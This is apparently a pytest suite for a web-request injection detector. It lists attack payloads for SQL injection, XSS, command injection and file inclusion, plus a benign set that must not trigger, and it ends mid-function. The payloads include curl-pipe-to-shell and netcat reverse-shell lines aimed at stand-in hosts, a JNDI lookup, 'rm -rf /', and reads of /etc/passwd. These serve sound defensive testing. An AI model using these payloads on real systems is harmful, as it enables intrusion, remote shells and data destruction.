"""The injection/XSS engine (``bastion.checks.inspection``): attacks, a benign set, normalisation,
request values, bounds, and the corpus metrics on a stratified subset."""

from __future__ import annotations

import importlib.util
import json
import re
import sys
import time
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from bastion.checks.inspection import (
    DEFAULT_MAX_LENGTH,
    FAMILIES,
    Finding,
    Inspector,
    all_rules,
    request_values,
)
from bastion.checks.inspection._normalize import base_view, html_view, path_view, shell_view, sql_view
from bastion.checks.inspection._rules import keywords, trie

ROOT = Path(__file__).resolve().parents[2]
CORPUS = next(
    (
        path
        for path in (
            ROOT.parent / "shared" / "corpora" / "crs-attacks.jsonl",
            Path("/work/shared/corpora/crs-attacks.jsonl"),
        )
        if path.exists()
    ),
    ROOT.parent / "shared" / "corpora" / "crs-attacks.jsonl",
)

INSPECTOR = Inspector()


def _family(value: str, inspector: Inspector = INSPECTOR) -> str | None:
    finding = inspector.scan(value)
    return finding.family if finding else None


# --- attacks ---------------------------------------------------------------------------------

ATTACKS: dict[str, list[str]] = {
    "sqli": [
        "' OR 1=1--",
        "' or '1'='1",
        "admin'--",
        "admin' #",
        "1 UNION/**/SELECT username, password FROM users",
        "1 UnIoN aLl SeLeCt null,null--",
        "0/**/union/*!50000select*/table_name",
        "1; DROP TABLE users",
        "'; exec master..xp_cmdshell 'dir'--",
        "1 AND SLEEP(5)",
        "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)--",
        "'; WAITFOR DELAY '0:0:5'--",
        "' AND extractvalue(1,concat(0x7e,version()))--",
        "1 and 1=1",
        "' || (select password from users limit 1) || '",
        "id=1 or 1=1",
        "password::int",
        "x' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
        "msdb",
        "sysobjects",
        "DROP TABLE users;",
        "\u2019 OR \u20191\u2019=\u20191",  # typographic quotes
        "%27%20OR%201%3D1--",  # double-encoded: still encoded after the first decode
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<svg/onload=alert(1)>",
        "<img src=x onerror=alert(document.cookie)>",
        "<iframe src=javascript:alert(1)>",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java&#x09;script:alert(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        '" onmouseover="alert(1)',
        "<body onload=alert(1)>",
        '<a href="javascript:void(0)" onclick="steal()">x</a>',
        '<div style="background:url(javascript:alert(1))">',
        # fullwidth <script>alert(1)</script>
        "\uff1c\uff53\uff43\uff52\uff49\uff50\uff54\uff1ealert(1)"
        "\uff1c\uff0f\uff53\uff43\uff52\uff49\uff50\uff54\uff1e",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "self['alert'](1)",
        "[].map.call`${eval}`",
        "window.alert(1)",
        "top[/al/.source+/ert/.source](1)",
        "data:,alert(1)",
        "<s/c/r/i/p/t>",
        "<button formaction=javascript:alert(1)>",
        "\\xbc/script\\xbe",  # US-ASCII "<" and ">" with the high bit set, as escapes
    ],
    "rce": [
        ";cat /etc/passwd",
        "; ls -la",
        "| whoami",
        "&& id",
        "$(id)",
        "`id`",
        "127.0.0.1; ping -c 3 attacker.example",
        "x;c'a't /etc/passwd",
        "x;c\\at /et\\c/pas\\swd",
        "cat${IFS}/etc/passwd",
        "{cat,/etc/passwd}",
        "() { :; }; /bin/bash -c 'id'",
        "|| curl http://evil.example/x.sh | sh",
        "; nc -e /bin/sh 10.0.0.1 4444",
        "${jndi:ldap://evil.example/a}",
        "& powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA",
        "/???/??t /???/p??s??",
        ";set",
        "; sleep 5",
        "& net user",
        "a && foo --bar",
        "ls foo bar",
        "python3.10 cmd",
        "sh -c id",
        "{,ifconfig}",
        "cd ~+1",
        "IF CMDEXTVERSION 2 echo ok",
        "if 1 equ 1 whoami",
        "%COMSPEC% /c dir",
    ],
    "lfi": [
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "....//....//etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",  # still encoded after the first decode
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%c0%af..%c0%afetc/passwd",
        "../../../../boot.ini\x00.jpg",
        "report.pdf\x00.php",
        "/proc/self/environ",
        "php://filter/convert.base64-encode/resource=index.php",
        "file:///etc/shadow",
        "/.git/config",
        "/app/.env",
        "%uff0e%uff0e%u2215etc%u2215passwd",  # IIS %u encoding, a division slash
        "\ufffd" * 6 + "etc",  # overlong UTF-8 dots and slash (%c0%ae%c0%ae%c0%af), undecodable
        "/etc/redhat-release",
        "/.cursorrules",
        "settings.php",  # a file name no upload may carry
        "config.yml",
        "kcore",
    ],
}


@pytest.mark.parametrize(("family", "payload"), [(f, p) for f, ps in ATTACKS.items() for p in ps])
def test_attacks_are_flagged(family: str, payload: str) -> None:
    finding = INSPECTOR.scan(payload)
    assert finding is not None, payload
    assert finding.rule.startswith(f"{finding.family}.")
    assert finding.family in FAMILIES


@pytest.mark.parametrize(
    ("payload", "family"),
    [
        ("' OR 1=1--", "sqli"),
        ("1 UNION/**/SELECT 1,2", "sqli"),
        ("<svg/onload=alert(1)>", "xss"),
        ("javascript:alert(1)", "xss"),
        ("$(id)", "rce"),
        ("`id`", "rce"),
        ("..%2f..%2fapp.ini", "lfi"),
        ("....//....//etc", "lfi"),
    ],
)
def test_classic_payloads_land_in_their_family(payload: str, family: str) -> None:
    assert _family(payload) == family


def test_finding_is_a_small_value() -> None:
    finding = INSPECTOR.scan("' OR 1=1--")
    assert isinstance(finding, Finding)
    assert finding.family == "sqli" and finding.rule == "sqli.tautology" and finding.paranoia == 1
    assert len(finding.excerpt) <= 80


def test_rule_ids_are_stable_and_namespaced() -> None:
    for family, rules in all_rules().items():
        for rule in rules:
            assert rule.id.startswith(f"{family}.") and rule.id.replace(".", "").replace("_", "").isalnum()
            assert 1 <= rule.paranoia <= 4


# --- the benign set --------------------------------------------------------------------------

_NAMES = ["O'Reilly", "D'Angelo", "Zoë Saldaña", "José María", "Renée O'Connor", "Jean-Luc Picard",
          "Mary-Kate", "Nguyễn Văn An", "Łukasz Żółw", "Søren Kierkegaard", "李小龙", "محمد"]  # fmt: skip
_PROSE = [
    "select your plan",
    "1 or 2 items",
    "<3",
    "I <3 this app",
    "Please select the items from the list and update your order",
    "Delete the old drafts and create a new one from the template",
    "Union members will vote on Tuesday.",
    "Drop me a line if you have questions; I'll reply by Friday.",
    "We sleep 8 hours a day (on average).",
    "Insert the card, then select 'Pay' and confirm.",
    "The meeting is from 10 to 11; bring your laptop.",
    "Cats and dogs; fish or birds? All welcome!",
    "Use 2-3 tbsp. of sugar (or honey) per cup.",
    "Order by phone: +1 (415) 555-0100, Mon-Fri.",
    "Time to ship: 3-5 business days.",
    "Find the difference between A and B.",
    "Who is on call this week?",
    "Set the alarm for 7am, then head to the station.",
    "More than 40% of users chose the annual plan.",
    "Where do I update my billing address?",
    "Reviewed: looks good; one nit in the README and a typo in line 42.",
    "LGTM; please squash the commits before merging.",
    "nit: rename `max_body` to `max_body_size`; also update the docs.",
    "Ship it! (after CI passes)",
    "Fixed the race in the cache; added a test for the timeout path.",
    "See section 4.2 (Limits) for details.",
    "The total is $12.50 (tax included).",
    "Results: 95% pass, 3% skipped, 2% failed.",
    "Q&A session starts at 3pm",
    "Tom & Jerry",
    "R&D budget for 2026",
    'He said "hello" and left.',
    "It's 5 o'clock somewhere",
    "rock 'n' roll",
    "The ratio is 3:2, not 2:3.",
    "Is 1 < 2? Yes, and 3 > 2.",
    "a + b = c",
    "x = y * 2",
    "50/50 split",
    "and/or",
    "either/or",
    "Hello, world!",
    "Thanks!!!",
    "What?!",
    "email me at first.last+tag@example.co.uk",
    "The union of two sets A and B is written A \u222a B.",
    "Grand Union Canal walk, 12 km",
    "Select Comfort mattress, queen size",
    "Drop-off location: Gate 4",
    "Sleep Number bed",
    "Having trouble logging in? Reset your password.",
    "Cut orange quarters into slices.",
    "Pick one: red, green or blue.",
    "Meet at Café Müller at 18:30",
    "Ordered 3 items; 2 shipped, 1 pending.",
    "Room 101, 2nd floor",
    "Lunch at noon; dinner at 8.",
    "Don't forget: the deadline is Friday!",
    "I can't make it; sorry.",
    "Price: €9,99 / month",
    "Use the CLI: bastion audit --config bastion.yaml",
    "Run the tests before pushing.",
    "Please find attached the report.",
    "The command palette opens with Ctrl+Shift+P.",
    "Read chapter 3 (pages 10-20) before class.",
    "version 2.1.0 (build 345)",
    "Windows 11 Pro (64-bit)",
    "macOS Sonoma 14.4",
    "Ubuntu 24.04 LTS",
]
_MARKDOWN = [
    "# Release notes\n\n- Faster startup\n- Fixed a crash when the config is empty",
    "**Bold** and _italic_ text, plus a [link](https://example.com/docs?page=2).",
    "1. First\n2. Second\n3. Third",
    "> Quoted text from the previous message",
    "See the `config.yaml` file and the `max_body` setting.",
    "| col | value |\n|---|---|\n| a | 1 |",
    "![diagram](https://example.com/img/diagram.png)",
    "Use *emphasis* sparingly.",
    "Line one\nLine two\nLine three",
    "Heading\n=======\n\nSome text.",
]
_URLS = [
    "https://example.com",
    "https://example.com/path/to/page",
    "https://example.com/search?q=shoes&page=2",
    "https://shop.example.com/products?version=premium&option=deluxe",
    "https://app.example.com/dashboard?action=edit&id=123",
    "https://maps.example.com/location?position=center&zoom=10",
    "https://www.google.com/search?q=bastion+api+gateway&hl=en",
    "http://localhost:8080/health",
    "https://example.com/a/b/c.html#section-2",
    "https://example.com/files/report-2026.pdf",
    "https://user.example.com/~alice/",
    "https://example.com/?utm_source=newsletter&utm_medium=email&utm_campaign=spring",
    "https://example.com/callback?code=abc123&state=xyz789",
    "https://cdn.example.com/assets/app.4f3c2a.js",
    "https://example.com/.well-known/openid-configuration",
    "https://en.wikipedia.org/wiki/SQL_injection",
    "https://example.com/docs/select-a-plan",
    "https://example.com/blog/2026/03/14/union-station-opening",
    "ftp://files.example.com/pub/readme.txt",
    "mailto:support@example.com",
]
_VALUES = [
    "42", "0", "-1", "3.14159", "1e10", "-0.5", "1,234,567", "100%", "2026-03-14", "2026-03-14T12:30:00Z",
    "12:30", "14/03/2026", "03/14/2026", "Mon, 14 Mar 2026 12:30:00 GMT", "+1 (415) 555-0100",
    "+44 20 7946 0958", "+49 30 901820", "(555) 123-4567", "555.123.4567", "alice@example.com",
    "bob.smith+news@mail.example.org", "report-2026.pdf", "IMG_0042.JPG", "invoice_2026_03.xlsx",
    "backup.tar.gz", "my-photo (1).png", "résumé.docx", "3fa85f64-5717-4562-b3fc-2c963f66afa6",
    "550e8400-e29b-41d4-a716-446655440000",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "d41d8cd98f00b204e9800998ecf8427e", "QmFzdGlvbiBpcyBhIGdhdGV3YXk=", "aGVsbG8gd29ybGQ=",
    "dGVzdA==", "SGVsbG8sIFdvcmxkIQ", "sk_live_51Hx", "bst_2f8a9c7d6e5b4a3f", "v1.2.3", "1.0.0-rc.1",
    "en-US", "en-GB,en;q=0.9", "fr_FR", "Europe/Berlin", "America/Los_Angeles", "UTC+02:00", "true", "false",
    "null", "none", "N/A", "-", "#ff8800", "#fff", "rgb(255, 128, 0)", "10px", "1.5em", "SKU-12345-XL",
    "ORD-2026-000123", "TEST_ORDER_12345", "AUTHORISED", "visa", "en_GB", "192.168.1.10", "10.0.0.1",
    "2001:db8::1", "::1", "fe80::1%eth0", "00:1A:2B:3C:4D:5E", "51.5074,-0.1278", "48.8566° N, 2.3522° E",
    "$19.99", "£5", "¥1000", "1/2", "3/4 cup", "5'10\"", "6 ft 2 in", "9am-5pm", "24/7", "A+", "B-", "C#",
    "F#", ".NET", "Node.js", "C++", "Objective-C", "x86_64", "arm64", "UTF-8", "ISO-8859-1",
    "gzip, deflate, br",
    "no-cache", "max-age=3600", "bytes=0-1023", "application/json", "text/html; charset=utf-8",
]  # fmt: skip
_USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "python-httpx/0.27.0",
    "Go-http-client/1.1",
    "okhttp/4.12.0",
    "PostmanRuntime/7.37.3",
    "Wget/1.21.4",
    "axios/1.6.8",
    "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)",
    "TwilioProxy/1.1",
]  # fmt: skip
_COOKIES_AND_TOKENS = [
    "s%3AeyJhbGciOiJIUzI1NiJ9.abc.def",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2"
    "MjM5MDIyfQ.SflKxwRJSMe--KKF2QT4fwpMeJf36POk6yJV_adQssw-5c",
    "GA1.2.1234567890.1700000000",
    "_ga=GA1.1.987654321.1700000000",
    "a3f9c2e1b7d84f60a1e2",
    "sessionid=8f14e45fceea167a5a36dedd4bea2543",
    "csrftoken=Z2V0IG91dCBvZiBteSBjb29raWU",
    "dark",
    "en",
    "AQIC5wM2LY4Sfczf2XgNwl",
    "MTcxMDQxMjM0NXxEdi1CQkFFQ180SUFBUkFCRUFBQUpQLUNBQUVHYzNSeWFXNW5EQW9BQ0hWelpYSnVZVzFs",
    "1710412345|a1b2c3|signature",
    "v=1&t=1710412345&h=abcdef0123456789",
    "IwAR1dug0BYxe0ukhZ2vKrdQwLAxVFRJ--Q2Y7OBJE_0uId9-Eh-sJWLdVk2E",
    "my--slugified-url",
    "t=1614308115,v1=5257a869e7ecebeda32affa62cdca3fa51abcd",
]  # fmt: skip
_JSONISH = [
    '{"id": 42, "name": "Widget", "tags": ["a", "b"]}',
    '{"price": 12.5, "currency": "EUR"}',
    "[1, 2, 3]",
    '{"enabled": true, "ratio": 0.75}',
    '{"query": "shoes", "page": 2, "sort": "price_asc"}',
]
_PATHS_AND_FILES = [
    "/api/v1/users/42", "/api/v1/orders?status=open", "users/42/avatar.png", "docs/getting-started.md",
    "src/main.py", "C:\\Users\\alice\\Documents\\report.docx", "~/projects/bastion", "./build/output.log",
    "/static/css/style.css", "/jquery.history.min.js", "images/2026/03/photo.jpg", "reports/Q1 2026.pdf",
    "/products/shoes/running", "/search/select-a-plan", "/blog/union-station",
]  # fmt: skip

# Values that pass the screen and reach the rules: quotes, semicolons, brackets, SQL and shell
# words, entities, percent signs, paths and URLs, as ordinary clients send them.
_MIXED = [
    "O'Reilly <3 Pets & Co.", "1 < 2 and 3 > 2", "x > 0; y < 10", 'Tom & Jerry\'s "Best Of" (2024)',
    "It's 5 o'clock; let's go.", "Don't select 'All' unless you mean it; it updates every order.",
    "We can't drop the 3 o'clock call; the union rep is joining.",
    "Insert the card, then select 'Pay' and confirm.", "Please update your address; we'll ship by Friday.",
    "Sleep well (and drink water).", "Time to ship: 3-5 business days.", "The new version (2.0) is faster.",
    "Angles add up to 180 degrees (always).", "Order by phone: +1 (415) 555-0100, Mon-Fri.",
    "Having trouble logging in? Reset your password.", "Use 2-3 tbsp. of sugar (or honey) per cup.",
    "Drop me a line if you have questions; I'll reply by Friday.",
    "Is 'null' a valid value? Only when the field is optional.", "1 or 2 items per order",
    "Rock & Roll Hall of Fame, 1100 E 9th St, Cleveland, OH 44114", "Flat 3/B, 12 Baker's Row; London",
    "Apt. #4, 221B Baker St.", "50% off everything -- today only!", "Save 20%+ on orders over $50",
    "Q&A: what's new in 2026?", "C# and F# are .NET languages", "a && b || c", "if (x == 1) { return; }",
    "nit: rename `max_body` to `max_body_size`; also update the docs.",
    "LGTM :) but please add a test for `None`.", "See the `config.yaml` file and the `max_body` setting.",
    "Reviewed: looks good; one nit in the README.", "- [x] tests\n- [ ] docs\n- [ ] changelog",
    "> quoted reply\n\nThanks, that works!",
    "**Bold** and _italic_ text, plus a [link](https://example.com/docs?page=2).",
    "| col | value |\n|---|---|\n| a | 1 |", "```python\nprint('hello')\n```", "docs/report-2026.pdf",
    "reports/2026/Q1/summary (final).xlsx", "./README.md",
    "https://example.com/search?q=select+union&page=2",
    "https://shop.example.com/cart?item=42&qty=3#checkout",
    "https://example.com/?utm_source=newsletter&utm_medium=email&utm_campaign=spring",
    "https://app.example.com/dashboard?action=edit&id=123", "mailto:alice@example.com?subject=Hi%20there",
    '{"note": "it\'s fine; really", "tags": ["a&b", "c<d"]}', '"{\\"a\\": 1}"', "key=value; other=thing",
    "SGVsbG8sIFdvcmxkIQ==", "U2VsZWN0IHlvdXIgcGxhbg==", "dGhpcyBpcyBhIHRlc3Q/Pw==",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "price >= 10 and price <= 20", "3 * (4 + 5) = 27", "f(x) = x^2 + 1", "e = mc^2", "Fish & Chips & Peas",
    "AT&T", "Ben &amp; Jerry's", "&copy; 2026 Example Ltd.", "1 &lt; 2",
]  # fmt: skip

# More everyday values: names and addresses with apostrophes, search queries made of SQL, shell
# and HTML words, prices, Markdown and code people paste, Windows paths, file names.
_EVERYDAY = [
    "Seán O'Brien", "D'Arcy-Smith", "N'Golo Kanté", "Mary O'Neil-Ward", "Ng'ang'a", "Dell'Orto",
    "12 O'Connell St, Dublin 1", "Flat 2/3, 14 King's Road; London SW3 4ND",
    "1600 Amphitheatre Pkwy, Mountain View, CA 94043", "Rue de l'Église 5, 1000 Bruxelles",
    "c/o Acme Ltd., P.O. Box 42", "Apt #12-B / 3rd floor",
    "drop table lamp", "union station", "rm -rf advice", "select comfort sleep number", "delete account",
    "where to buy sleep mask", "order by price", "cat food and dog food", "kill bill", "top 10 ls tractors",
    "ping pong table", "how to use sudo", "script writing course", "iframe vs embed", "javascript tutorial",
    "python 3 tutorial", "bash birthday party", "chmod calculator", "echo dot", "shell gas station",
    "alert dog harness", "window cleaner", "document scanner", "onload event javascript", "eval function",
    "sql union vs join", "insert coin", "group by in pandas", "ping 127.0.0.1", "regedit",
    "$1,299.00", "€ 12,50", "£3.99/kg", "2 x 500ml", "20% off -- ends Sunday", "from $9/mo (billed yearly)",
    "1-2 business days", "Q3 2026", "Mon\u2013Fri 9:00\u201317:30", "10/12 pcs", "3 for 2", "#1 best seller",
    "## Steps to reproduce\n1. Open the app\n2. Click *Save*\n3. See error",
    "The `SELECT` statement returns rows; `DELETE` removes them.",
    "> **Note:** the API returns `null` when the field is empty.", "- [ ] write docs\n- [x] fix bug #123",
    "Thanks!! :) <3 see you tomorrow", "lol :D that's great", "Wait... what?!", "hmm -- not sure",
    "if (x > 0) { y = x; }", "for (let i = 0; i < n; i++) {}", "x = [1, 2, 3]; y = x[0]",
    "def f(x): return x * 2", "if x == 1: return x", "SELECT is a keyword; so is FROM.",
    "2 + 2 = 4; 3 * 3 = 9",
    "a/b/c", "foo_bar-baz.v2", "key: value", "user@host:~$", "\\d{1,3} matches one to three digits",
    "https://example.com/search?q=union+station&sort=relevance",
    "https://example.com/blog/how-to-drop-a-table-in-postgres", "https://example.com/products/ls-400",
    "https://github.com/org/repo/blob/main/src/app.py#L42", "https://example.com/a?redirect=%2Fhome",
    "/users/42/orders?page=2&per_page=50", "C:\\Program Files\\Example\\app.exe",
    "C:\\Windows\\Fonts\\arial.ttf", "C:\\Windows\\System32\\ls", "D:\\Photos\\2026\\IMG_0001.JPG",
    "~/Downloads/report (final).pdf", "config.example.json", "docker-compose.override.yml", "notes.txt",
    "backup-2026-03-14.zip", "index.html", "styles.min.css", "Hello! World.\ndata not found.",
    '{"q": "drop table lamp", "filters": {"price": [10, 20]}}', '["a", "b", "c"]',
    "first.o'reilly@example.com", "support+billing@example.co.uk",
]  # fmt: skip

BENIGN: list[str] = [
    *_NAMES, *_PROSE, *_MARKDOWN, *_URLS, *_VALUES, *_USER_AGENTS, *_COOKIES_AND_TOKENS, *_JSONISH,
    *_PATHS_AND_FILES, *_MIXED, *_EVERYDAY,
]  # fmt: skip


def test_the_benign_set_is_large_enough() -> None:
    assert len(BENIGN) >= 250


def test_benign_set_has_no_false_positive_at_paranoia_1() -> None:
    flagged = [(value, INSPECTOR.scan(value)) for value in BENIGN if INSPECTOR.scan(value) is not None]
    assert flagged == []


def test_benign_set_false_positives_at_paranoia_2_are_rare() -> None:
    # Paranoia 2 adds fragment rules (a word function before "(", backticked text) that also fire
    # on prose and Markdown; the set includes such values on purpose, so the bound is 5%.
    inspector = Inspector(paranoia=2)
    flagged = [value for value in BENIGN if inspector.scan(value) is not None]
    assert len(flagged) <= len(BENIGN) // 20, flagged


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", max_size=60))
@example("OPENROWSET")  # found by a CI run: a whole word flagged on purpose, below
def test_alphanumerics_never_flag(value: str) -> None:
    finding = INSPECTOR.scan(value)
    # Integer-overflow probes (2^31, 2^32, 2^63…) are flagged on purpose, as CRS rule 942220 does, and
    # so are a few whole words: system catalogues (msdb, sysobjects), the names of kernel pseudo-files
    # (kcore, mtrr) as a file name, and SQL Server's remote-query functions (openrowset,
    # opendatasource), as CRS rules 942140, 932180 and 942190 do.
    assert (
        finding is None
        or finding.rule in {"sqli.overflow", "sqli.schema", "lfi.restricted_file"}
        or (finding.rule == "sqli.exec" and finding.excerpt in {"openrowset", "opendatasource"})
    ), finding


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300))
def test_scan_never_raises_on_any_text(value: str) -> None:
    for inspector in (INSPECTOR, Inspector(paranoia=4)):
        finding = inspector.scan(value)
        assert finding is None or finding.family in FAMILIES


# --- normalisation ---------------------------------------------------------------------------


def test_second_round_of_percent_decoding_and_iis_unicode() -> None:
    assert base_view("%2e%2e%2f") == "../"
    assert base_view("%252e%252e%252f") == "../"
    assert base_view("%u002e%u002e%u2215") == "..\u2215"
    assert base_view("100% sure") == "100% sure"


def test_nfkc_folds_fullwidth() -> None:
    assert base_view("\uff33\uff25\uff2c\uff25\uff23\uff34") == "SELECT"


def test_sql_view_drops_comments_and_unwraps_mysql_versioned_comments() -> None:
    assert sql_view("1 union/**/select") == "1 union select"
    assert sql_view("0/**/union/*!50000select*/1") == "0 union select 1"
    assert sql_view("a \t\n b") == "a b"
    assert sql_view("\u2019 or \u20191\u2019=\u20191") == "' or '1'='1"


def test_html_view_decodes_entities_and_whitespace() -> None:
    assert html_view("&lt;script&gt;") == "<script>"
    assert html_view("&amp;lt;svg") == "<svg"
    assert html_view("java&Tab;script&colon;") == "java script:"
    assert html_view("ale/**/rt(1)") == "alert(1)"


def test_shell_view_undoes_evasions() -> None:
    # shell_view reads the lower-cased base
    assert shell_view("c'a't /e\"t\"c/passwd") == "cat /etc/passwd"
    assert shell_view("c\\at /etc/pa\\sswd") == "cat /etc/passwd"
    assert shell_view("cat$ifs/etc/passwd") == "cat /etc/passwd"
    assert shell_view("cat${ifs}/etc/passwd") == "cat /etc/passwd"
    assert shell_view("c$@at /etc/passwd") == "cat /etc/passwd"
    assert shell_view("{cat,/etc/passwd}") == "cat /etc/passwd"
    assert shell_view("a\nid") == "a;id"


def test_path_view_folds_separators_and_encodings() -> None:
    assert path_view("..\\..\\windows") == "../../windows"
    assert path_view("....//....//etc") == "..../..../etc"
    assert path_view("0x2e0x2e0x2fetc") == "../etc"
    assert path_view("..\ufffd\ufffd..\ufffd\ufffdetc") == "../../etc"
    assert path_view("..;/admin") == "../admin"
    assert path_view("a/./b//c") == "a/b/c"
    assert path_view("https://example.com//x") == "https://example.com/x"  # the scheme's "//" stays


def test_views_of_ordinary_text_are_the_same_string() -> None:
    # The engine reads each distinct view once; ordinary text must not produce new copies.
    text = "mozilla/5.0 (x11; linux x86_64) please select the items from the list"
    assert sql_view(text) is text and shell_view(text) is text and path_view(text) is text


def test_markdown_code_fences_are_not_command_substitution() -> None:
    assert shell_view("```python\nprint(1)\n```") == ";print(1);"
    assert _family("```python\nprint('hello')\n```") is None
    assert _family("```id```") == "rce"  # on one line, bash runs `id`


# --- the rules' building blocks --------------------------------------------------------------


def test_trie_matches_exactly_the_same_names() -> None:
    names = "cat|cut|curl|c|g\\+\\+|python[0-9.]*|php|phpx|json_\\w+"
    original, merged = re.compile(f"(?:{names})\\Z"), re.compile(f"(?:{trie(names)})\\Z")
    words = ("cat", "cut", "curl", "c", "cu", "g++", "python3.11", "php", "phpx", "phpy", "json_x", "dog")
    for word in words:
        assert bool(original.match(word)) == bool(merged.match(word)), word


def test_keywords_are_the_first_run_of_letters_and_refuse_extendable_names() -> None:
    assert keywords("concat|json_\\w+|sha1|g\\+\\+|python[0-9.]*") == ("concat", "json", "sha", "g", "python")
    with pytest.raises(ValueError):
        keywords("vim?")


def test_every_rule_has_anchors_unless_it_is_anchored_at_the_start() -> None:
    # A rule without anchors runs on every value that reaches the rules; only rules that can
    # match at the first position alone (cheap: the engine tries them once) may do without.
    for rules in all_rules().values():
        for rule in rules:
            assert rule.anchors or rule.pattern.startswith("^"), rule.id


# --- request values --------------------------------------------------------------------------


def _values(**kw: object) -> dict[str, str]:
    defaults: dict[str, object] = {"method": "GET", "raw_target": "/", "headers": [], "body": b"",
                                   "content_type": None}  # fmt: skip
    defaults.update(kw)
    return dict(request_values(**defaults))  # type: ignore[arg-type]


def test_query_values_and_keys_are_decoded_once() -> None:
    values = _values(raw_target="/search?q=%27+or+1%3D1&a%3Cb=1")
    assert values["query.q"] == "' or 1=1"
    assert values["query.a<b:key"] == "a<b"
    assert values["query.a<b"] == "1"


def test_path_segments_and_whole_path() -> None:
    values = _values(raw_target="/api/v1/%2e%2e%2fetc/x?y=1#frag")
    assert values["path"] == "/api/v1/../etc/x"
    assert values["path[2]"] == "../etc"
    assert values["path[0]"] == "api"


def test_headers_cookies_and_skipped_protocol_headers() -> None:
    headers = [
        ("Host", "example.com"),
        ("User-Agent", "curl/8.5.0"),
        ("Referer", "https://example.com/?q=%3Cscript%3E"),
        ("Cookie", "session=abc%20def; theme=dark; flag"),
        ("X-Custom", "hello"),
        ("Accept", "text/html"),
        ("Authorization", "Bearer secret"),
        ("FoobarHeader", "value"),
    ]
    values = _values(headers=headers)
    assert values["header.user-agent"] == "curl/8.5.0"
    assert values["header.referer"] == "https://example.com/?q=<script>"
    assert values["cookie.session"] == "abc def"
    assert values["cookie.session:key"] == "session"
    assert values["cookie.theme"] == "dark"
    assert values["cookie"] == "flag"
    assert values["header.x-custom"] == "hello"
    assert values["header.foobarheader"] == "value"
    assert "header.host" not in values and "header.accept" not in values
    assert not any("secret" in v for v in values.values())


def test_form_body() -> None:
    values = _values(
        method="POST", body=b"name=O%27Reilly&q=a+b&empty=", content_type="application/x-www-form-urlencoded"
    )
    assert values["form.name"] == "O'Reilly"
    assert values["form.q"] == "a b"
    assert values["form.empty:key"] == "empty"


def test_json_body_nested_locations_and_keys() -> None:
    body = {"items": [{"qty": 1}, {}, {}, {"qty": "2; rm -rf /"}], "$where": "1", "n": 5, "ok": True}
    values = _values(method="POST", body=json.dumps(body).encode(), content_type="application/json")
    assert values["body.items[3].qty"] == "2; rm -rf /"
    assert values["body.$where:key"] == "$where"
    assert "body.n" not in values and "body.ok" not in values


def test_json_value_given_by_the_caller_is_used() -> None:
    values = _values(method="POST", body=b"ignored", content_type="application/json", json_value={"a": ["x"]})
    assert values == {"body.a:key": "a", "body.a[0]": "x"}


def test_invalid_json_is_scanned_as_raw_text() -> None:
    values = _values(method="POST", body=b"{'a': 1 OR 1=1", content_type="application/json")
    assert values["body"] == "{'a': 1 OR 1=1"


def test_multipart_fields_and_file_names() -> None:
    body = (
        b'--XyZ\r\nContent-Disposition: form-data; name="comment"\r\n\r\nhello <b>world</b>\r\n'
        b'--XyZ\r\nContent-Disposition: form-data; name="file"; filename="../../evil.php"\r\n'
        b"Content-Type: image/png\r\n\r\n\x89PNG\r\n--XyZ--\r\n"
    )
    values = _values(method="POST", body=body, content_type="multipart/form-data; boundary=XyZ")
    assert values["form.comment"] == "hello <b>world</b>"
    assert values["form.file:filename"] == "../../evil.php"
    assert "form.file" not in values  # binary part not inspected


def test_xml_attributes_text_and_declarations() -> None:
    body = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            b'<root><a probe="&lt;script&gt;">text &amp; more</a></root>')  # fmt: skip
    values = list(request_values("POST", "/", [], body, "application/xml"))
    found = dict(values)
    assert found["xml.a@probe"] == "<script>"
    assert found["xml.a"] == "text & more"
    assert any(loc == "xml.!declaration" and "SYSTEM" in v for loc, v in values)


def test_binary_bodies_are_skipped_and_unknown_types_scanned_raw() -> None:
